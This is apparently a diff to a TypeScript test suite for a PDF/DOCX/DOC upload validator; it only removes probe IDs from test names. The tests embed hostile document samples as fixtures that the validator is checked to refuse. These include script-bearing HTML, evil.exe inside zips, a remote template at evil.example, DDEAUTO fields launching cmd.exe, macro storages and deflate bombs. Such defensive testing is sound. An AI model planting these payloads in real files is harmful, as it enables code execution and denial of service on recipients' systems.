@@ -36,12 +36,12 @@ describe('PDF by structure', () => {
     expect(await pdfOk(bytes(pdf(), ' '.repeat(1100)))).toBe(false);
   });
 
-  it('refuses a header followed by HTML (probe C4)', async () => {
+  it('refuses a header followed by HTML', async () => {
     expect(await pdfOk(bytes('%PDF-1.4\n<html><script>alert(1)</script></html>'))).toBe(false);
     expect(await pdfOk(pdf('<HTML><body onload=alert(1)>\n'))).toBe(false);
   });
 
-  it('refuses a PDF carrying a zip with an executable outside its streams (probe C5)', async () => {
+  it('refuses a PDF carrying a zip with an executable outside its streams', async () => {
     const zip = zipWith([{ name: 'evil.exe', data: MZ }]);
     expect(await pdfOk(bytes(pdf(), zip, '\n%%EOF\n'))).toBe(false);
     expect(await pdfOk(bytes('%PDF-1.4\n', zip, '\n%%EOF'))).toBe(false);
@@ -104,11 +104,11 @@ describe('PDF active content', () => {
     ['/RichMedia', '8 0 obj <</Subtype /RichMedia>> endobj\n'],
     ['an XFA form', '1 0 obj <</AcroForm <</XFA 9 0 R>>>> endobj\n'],
     ['an encrypted PDF', 'trailer <</Encrypt <</Filter /Standard /V 2>>>>\n'],
-  ])('refuses %s (probe F11)', async (_label, objects) => {
+  ])('refuses %s', async (_label, objects) => {
     expect(await pdfOk(pdfWith(objects))).toBe(false);
   });
 
-  it('refuses an embedded file stream and JavaScript kept in a compressed object stream (probe F11)', async () => {
+  it('refuses an embedded file stream and JavaScript kept in a compressed object stream', async () => {
     expect(await pdfOk(pdfWith(streamObject(' /Type /EmbeddedFile', MZ)))).toBe(false);
     const objects = '5 0 6 40 <</S /JavaScript /JS (app.alert(1))>> <</Type /Catalog /OpenAction 5 0 R>>';
     expect(await pdfOk(pdfWith(streamObject(' /Type /ObjStm /N 2 /First 9', objects, true)))).toBe(false);
@@ -126,13 +126,13 @@ describe('PDF active content', () => {
     expect(await pdfOk(pdfWith(streamObject('', 'BT /F1 12 Tf (Giulia /JS) Tj ET', true)))).toBe(true);
   });
 
-  it('refuses a zip inside the decoded bytes of a stream, raw or deflated (probe F13a)', async () => {
+  it('refuses a zip inside the decoded bytes of a stream, raw or deflated', async () => {
     const zip = zipWith([{ name: 'invoice.exe', data: MZ }]);
     expect(await pdfOk(pdfWith(streamObject('', zip)))).toBe(false);
     expect(await pdfOk(pdfWith(streamObject('', zip, true)))).toBe(false);
   });
 
-  it('reads `stream` only after a dictionary with /Length, never in a comment or a string (probe F13b)', async () => {
+  it('reads `stream` only after a dictionary with /Length, never in a comment or a string', async () => {
     const comment = '%stream\n<html><body><script>alert(1)</script>PK\x03\x04\x7fELF</body></html>\n%endstream\n';
     expect(await pdfOk(pdfWith(comment))).toBe(false);
     expect(await pdfOk(pdfWith('1 0 obj (a string\nstream\n) endobj\n<html>\nendstream\n'))).toBe(false);
@@ -159,7 +159,7 @@ describe('DOCX by structure', () => {
     expect(await docxOk(docxWith([{ name: 'word/media/image1.png', data: '\x89PNG' }]))).toBe(true);
   });
 
-  it('refuses a zip holding an executable next to word/document.xml (probe C6), by name or by content', async () => {
+  it('refuses a zip holding an executable next to word/document.xml, by name or by content', async () => {
     expect(await docxOk(docxWith([{ name: 'evil.exe', data: 'x' }]))).toBe(false);
     for (const name of [
       'a.DLL',
@@ -181,7 +181,7 @@ describe('DOCX by structure', () => {
     expect(await docxOk(docxWith([{ name: 'word/embeddings/x.bin', data: MACHO }]))).toBe(false);
   });
 
-  it('refuses a document.xml that exists only as bytes inside another entry (probe C7)', async () => {
+  it('refuses a document.xml that exists only as bytes inside another entry', async () => {
     const inner = zipWith([{ name: 'word/document.xml', data: '<w:document/>' }]);
     const outer = zipWith([
       { name: '[Content_Types].xml', data: '<Types/>' },
@@ -201,7 +201,7 @@ describe('DOCX by structure', () => {
     expect(await docxOk(docxWith([], docm))).toBe(false);
   });
 
-  it('refuses a deflate bomb without inflating it (probe C29)', async () => {
+  it('refuses a deflate bomb without inflating it', async () => {
     const bomb = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
     const started = performance.now();
     const zip = zipWith([
@@ -284,7 +284,7 @@ const complexField = (...instruction: string[]) =>
 const withDocument = (body: string) => docxWith([], '<Types/>', documentXml(body));
 
 describe('DOCX active content', () => {
-  it('refuses a relationship to an outside target in any .rels: a remote template, a UNC image (probe F9a, F9b)', async () => {
+  it('refuses a relationship to an outside target in any .rels: a remote template, a UNC image', async () => {
     const template = relationships(`${REL}attachedTemplate`, 'http://evil.example/t.dotm', 'External');
     expect(await docxOk(docxWith([{ name: 'word/_rels/settings.xml.rels', data: template, deflate: true }]))).toBe(
       false,
@@ -323,7 +323,7 @@ describe('DOCX active content', () => {
     expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: unc }]))).toBe(false);
   });
 
-  it('refuses embedded objects: word/embeddings/*, and the oleObject and package relationship types (probe F9c)', async () => {
+  it('refuses embedded objects: word/embeddings/*, and the oleObject and package relationship types', async () => {
     const ole = bytes(OLE2, 'Ole10Native', MZ);
     expect(await docxOk(docxWith([{ name: 'word/embeddings/oleObject1.bin', data: ole, deflate: true }]))).toBe(false);
     for (const type of ['oleObject', 'package']) {
@@ -332,13 +332,13 @@ describe('DOCX active content', () => {
     }
   });
 
-  it('refuses altChunk and its aFChunk relationship (probe F9e)', async () => {
+  it('refuses altChunk and its aFChunk relationship', async () => {
     expect(await docxOk(withDocument('<w:altChunk r:id="rId9"/>'))).toBe(false);
     const rels = relationships(`${REL}aFChunk`, 'afchunk.mht');
     expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }]))).toBe(false);
   });
 
-  it('refuses DDE, DDEAUTO and INCLUDE* fields, however the runs split the instruction (probe F9d)', async () => {
+  it('refuses DDE, DDEAUTO and INCLUDE* fields, however the runs split the instruction', async () => {
     const fields = [
       `<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'/>`,
       complexField(' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
@@ -366,7 +366,7 @@ describe('DOCX active content', () => {
     for (const field of fields) expect(await docxOk(withDocument(field)), field).toBe(true);
   });
 
-  it('refuses a vbaProject relationship, and macros written with character references (probe F10b)', async () => {
+  it('refuses a vbaProject relationship, and macros written with character references', async () => {
     const rels = relationships('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'macros.dat');
     expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }]))).toBe(false);
     const disguised =
@@ -385,7 +385,7 @@ describe('DOCX active content', () => {
     expect(await docxOk(docxWith([], '<Types/>', large))).toBe(true);
   });
 
-  it('refuses duplicate entry names: a clean [Content_Types].xml and a macro-enabled one (probe F10c)', async () => {
+  it('refuses duplicate entry names: a clean [Content_Types].xml and a macro-enabled one', async () => {
     const docm = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
     const zip = zipWith([
       { name: '[Content_Types].xml', data: '<Types/>' },
@@ -396,7 +396,7 @@ describe('DOCX active content', () => {
     expect(await docxOk(docxWith([{ name: 'WORD/document.xml', data: '<w:document/>' }]))).toBe(false);
   });
 
-  it('refuses an entry that inflates past its declared size, or short of it, without inflating the rest (probe F14)', async () => {
+  it('refuses an entry that inflates past its declared size, or short of it, without inflating the rest', async () => {
     const liar = docxWith([
       { name: 'word/media/big.xml', data: new Uint8Array(32 * 1024 * 1024), deflate: true, declaredSize: 1000 },
     ]);
@@ -417,7 +417,7 @@ describe('DOC by structure', () => {
   });
 
   it.each(['Macros', 'VBA', '_VBA_PROJECT_CUR', 'ObjectPool', 'macros'])(
-    'refuses a .doc holding the %s storage: macros or embedded objects (probe F10a)',
+    'refuses a .doc holding the %s storage: macros or embedded objects',
     async (storage) => {
       expect(await docOk(oleWith(['WordDocument'], [storage]))).toBe(false);
       expect(await docOk(oleWith(['WordDocument', '1Table'], [storage]))).toBe(false);
@@ -442,7 +442,7 @@ describe('DOC by structure', () => {
     expect(await docOk(outside)).toBe(false);
   });
 
-  it('refuses a PDF and a zip named .doc (probe C8)', async () => {
+  it('refuses a PDF and a zip named .doc', async () => {
     expect(await docOk(pdf())).toBe(false);
     expect(await docOk(docxWith())).toBe(false);
   });
